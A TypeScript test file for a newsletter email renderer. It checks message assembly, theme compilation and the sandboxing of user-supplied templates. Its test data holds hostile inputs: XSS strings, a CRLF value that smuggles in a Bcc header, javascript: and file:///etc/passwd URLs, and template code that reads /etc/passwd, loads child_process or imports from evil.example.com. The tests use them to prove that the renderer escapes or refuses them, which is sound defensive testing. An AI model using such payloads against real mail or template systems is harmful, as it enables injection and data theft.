import { execFile } from 'node:child_process';
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import fc from 'fast-check';
import { simpleParser } from 'mailparser';
import { expect, test } from 'vitest';
import { packageRoot } from '../../src/package-root.ts';
import { assembleHtml, assembleMessage, assembleText } from '../../src/rendering/assemble.ts';
import { compileEdition, parseCompiled, serialiseCompiled } from '../../src/rendering/compile.ts';
import {
  editionContent,
  editionStory,
  sampleEnvelope as envelope,
  sampleValues as values,
} from '../support/edition.ts';
import { temporaryFolder } from '../support/folder.ts';

const everything = [[0], [1, 2, 3], [4, 5, 6, 7]];
const parse = (buffers: Buffer[]) => simpleParser(Buffer.concat(buffers));

test.each(['broadsheet', 'magazine', 'briefing', 'list'])(
  '%s: a message holds the chosen stories, related links and personal links',
  async (theme) => {
    const compiled = await compileEdition(editionContent({ theme }));
    const mail = await parse(assembleMessage(compiled, everything, values, envelope));
    for (const body of [String(mail.html), String(mail.text)]) {
      for (const position of [0, 1, 2, 3, 4, 5, 6, 7]) expect(body).toContain(`Story number ${position}`);
      expect(body).toContain('How it looked from the quay');
      expect(body).toContain(values.unsubscribeUrl);
      expect(body).toContain(values.preferencesUrl);
      expect(body).toContain(values.viewUrl);
      expect(body).toContain(`${values.viewUrl}/share`);
      expect(body).toContain('Forward to a friend');
      expect(body).toContain('You get this because');
      expect(body).not.toMatch(/[\uE000-\uF8FF]/);
    }
    // The list shows no pictures.
    if (theme !== 'list') expect(mail.html).toContain('https://img.example.com/lead.png');
    expect(mail.html).toContain('And six other stories');
    expect(mail.subject).toBe('The old lighthouse is lit again');
    expect(mail.from?.text).toBe('"The Harbour Post" <news@harbour.example.com>');
    expect(mail.headers.get('list')).toMatchObject({
      unsubscribe: { url: values.unsubscribeUrl },
      'unsubscribe-post': { name: 'List-Unsubscribe=One-Click' },
      id: { id: 'harbour-post.harbour.example.com' },
    });
    expect(mail.messageId).toBe(envelope.messageId);
    expect(mail.date).toEqual(envelope.date);
  },
);

test.each(['broadsheet', 'briefing'])(
  '%s: a reader gets their stories in their order, and no empty section',
  async (theme) => {
    const compiled = await compileEdition(editionContent({ theme }));
    const html = assembleHtml(compiled, [[5], [2, 0], []], values);
    const order = [...html.matchAll(/Story number (\d)/g)].map((match) => match[1]);
    expect([...new Set(order)]).toEqual(['5', '2', '0']);
    expect(html).not.toContain('In brief');
    const text = assembleText(compiled, [[5], [2, 0], []], values);
    expect([...text.matchAll(/Story number (\d)/g)].map((match) => match[1])).toEqual(['5', '2', '0']);
  },
);

test('lines of a message are short and end in CRLF', async () => {
  const compiled = await compileEdition(editionContent());
  const lines = Buffer.concat(assembleMessage(compiled, everything, values, envelope))
    .toString('latin1')
    .split('\r\n');
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(78);
  expect(lines.some((line) => /[\r\n]|[^\x00-\x7F]/.test(line))).toBe(false);
});

test('what is stored gives the same bytes as what was compiled', async () => {
  const compiled = await compileEdition(editionContent());
  const restored = parseCompiled(serialiseCompiled(compiled));
  expect(Buffer.concat(assembleMessage(restored, everything, values, envelope))).toEqual(
    Buffer.concat(assembleMessage(compiled, everything, values, envelope)),
  );
});

test('a pinned story stands only in its own slot', async () => {
  const stories = [editionStory(0, { pinned: true }), ...[1, 2, 3].map((position) => editionStory(position))];
  const compiled = await compileEdition(editionContent({ stories }));
  expect(compiled.slots.map((slot) => slot.positions)).toEqual([
    [0, 1, 2, 3],
    [1, 2, 3],
    [1, 2, 3],
  ]);
});

const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{ reader.name }} {% raw %}',
  '</mj-text><mj-raw><script>1</script></mj-raw>',
  '\uE000v:unsubscribeUrl\uE001\uE000/b\uE001\uE000/s\uE001',
  'Zeile\r\nBcc: eve@example.com',
  'half \uD800 of a pair',
  'Müller 日本語 🦊 עברית',
  'x'.repeat(10_000),
];

test.each(['broadsheet', 'briefing'])(
  '%s: hostile titles and deks are text and nothing else',
  async (theme) => {
    for (const text of hostile) {
      const stories = [editionStory(0, { title: text, dek: text, publisher: text, imageAlt: text })];
      const compiled = await compileEdition(editionContent({ theme, stories, subject: text }));
      const mail = await parse(assembleMessage(compiled, [[0], [], []], values, envelope));
      const html = String(mail.html);
      expect(html).not.toMatch(/<script|<img src=x|onerror=alert\(1\)>/);
      expect(mail.headers.has('bcc')).toBe(false);
      expect(html).not.toMatch(/[\uE000-\uF8FF]/);
      expect((html.match(/unsubscribe\/1-2-abc/g) ?? []).length).toBe(1);
    }
  },
  60_000,
);

test.each(['javascript:alert(1)', 'data:text/html,x', 'not a url', 'file:///etc/passwd'])(
  '%s is no link',
  async (url) => {
    const compiled = await compileEdition(
      editionContent({ stories: [editionStory(0, { url, imageUrl: url })] }),
    );
    const html = assembleHtml(compiled, [[0], [], []], values);
    expect(html).not.toContain(url);
  },
);

test("whatever a reader's name is, the message parses back to it", async () => {
  const compiled = await compileEdition(editionContent());
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 60 }), async (name) => {
      const greeting = `Hello ${name},`;
      const buffers = assembleMessage(
        compiled,
        everything,
        { ...values, greeting },
        { ...envelope, toName: name },
      );
      const mail = await parse(buffers);
      const flat = (text: string) => text.toWellFormed().replace(/[\u0000-\u001F\u007F]+/g, ' ');
      expect(mail.text).toContain(flat(greeting));
      const to = Array.isArray(mail.to) ? mail.to[0] : mail.to;
      expect(to?.value.map((address) => address.address)).toEqual(['ada@example.com']);
      expect(mail.headers.get('message-id')).toBe(envelope.messageId);
    }),
    { numRuns: 200 },
  );
});

const folder = temporaryFolder('theme');

test('a template that throws is named with its line', async () => {
  const file = join(folder, 'thrower.tsx');
  writeFileSync(
    file,
    'const broken = () => {\n  throw new Error("no such colour");\n};\nexport default function T() {\n  broken();\n  return null;\n}\n',
  );
  await expect(compileEdition(editionContent({ theme: file }))).rejects.toThrow(
    /thrower\.tsx, line 2: no such colour/,
  );
});

test('a template that does not parse is named with its line', async () => {
  const file = join(folder, 'unclosed.tsx');
  writeFileSync(file, 'export default function T() {\n  return <p>;\n}\n');
  await expect(compileEdition(editionContent({ theme: file }))).rejects.toThrow(/unclosed\.tsx, line 3/);
});

test('an MJML template with a broken tag is named with its line', async () => {
  const file = join(folder, 'broken.mjml');
  writeFileSync(file, '<mjml>\n<mj-body>\n{% for %}\n</mj-body></mjml>\n');
  await expect(compileEdition(editionContent({ theme: file }))).rejects.toThrow(/broken\.mjml, line 3/);
});

test('a template that forgets to close a story says so', async () => {
  const file = join(folder, 'open.tsx');
  writeFileSync(
    file,
    'export default function T(props) { return <p>{props.sections.map((s) => [s.open, s.stories.map((t) => t.open), s.close])}</p>; }\n',
  );
  await expect(compileEdition(editionContent({ theme: file }))).rejects.toThrow(
    /open\.tsx: a story opens .* inside another story/,
  );
});

test.each([
  [
    "import { readFileSync } from 'node:fs';\nconst text = readFileSync('/etc/passwd', 'utf8');",
    /imports node:fs, which a template may not/,
  ],
  [
    "import fs from 'fs/promises';\nconst text = String(fs);",
    /imports fs\/promises, which a template may not/,
  ],
  ["import left from 'left-pad';\nconst text = String(left);", /imports the package left-pad/],
  ["import config from '../../../../etc/hosts';\nconst text = config;", /lies outside its folder/],
  ["import code from 'https://evil.example.com/x.js';\nconst text = code;", /lies elsewhere/],
  ["const name = 'node:' + 'fs';\nconst text = String(await import(name));", /imports at run time/],
  ["const text = String(require('child_' + 'process'));", /imports child_process/],
  ["const text = process.getBuiltinModule('fs').readFileSync('/etc/passwd', 'utf8');", /is not a function/],
  ["await fetch('http://127.0.0.1:1/');\nconst text = '';", /fetch is not defined/],
])('a template that imports or does what it should not is refused: %s', async (code, reason) => {
  const file = join(folder, `greedy${Math.floor(performance.now() * 1000)}.tsx`);
  writeFileSync(file, `${code}\nexport default function T() { return <p>{text}</p>; }\n`);
  await expect(compileEdition(editionContent({ theme: file }))).rejects.toThrow(reason);
});

test('rendering leaves no files behind', async () => {
  // The thread knows of no TMPDIR.
  const left = () => readdirSync('/tmp').filter((name) => name.startsWith('broadsheet-templates-'));
  const before = left();
  await promisify(execFile)(
    process.execPath,
    ['--import', 'tsx', join(packageRoot, 'scripts/preview-theme.ts'), 'magazine'],
    { cwd: packageRoot, maxBuffer: 10_000_000 },
  );
  expect(left().filter((name) => !before.includes(name))).toEqual([]);
});

test('a template may have files of its own beside it', async () => {
  writeFileSync(join(folder, 'part.ts'), "export const wave = 'waves and wind';\n");
  const file = join(folder, 'with-part.tsx');
  writeFileSync(
    file,
    "import { wave } from './part.ts';\nexport default function T(props) { return <html><body><p>{wave}</p>{props.sections.map((s) => [s.open, s.stories.map((t) => [t.open, t.title, t.close]), s.close])}</body></html>; }\n",
  );
  const html = assembleHtml(await compileEdition(editionContent({ theme: file })), [[0], [], []], values);
  expect(html).toContain('waves and wind');
});

test.each([
  ['while (true) {}', /did not finish within 12 s/],
  [
    'const all = [];\n  while (true) all.push(new Array(100000).fill(all.length));',
    /ended its thread.*memory/,
  ],
])(
  'a template that does not stop is stopped, and the next one works: %s',
  async (code, reason) => {
    const file = join(folder, `endless${Math.floor(performance.now() * 1000)}.tsx`);
    writeFileSync(file, `export default function T() {\n  ${code}\n}\n`);
    await expect(compileEdition(editionContent({ theme: file }))).rejects.toThrow(reason);
    expect((await compileEdition(editionContent())).slots).toHaveLength(3);
  },
  90_000,
);

test('a theme that is not there is told with what was looked for', async () => {
  await expect(compileEdition(editionContent({ theme: 'gazette' }))).rejects.toThrow(
    /no theme "gazette".*gazette/,
  );
});
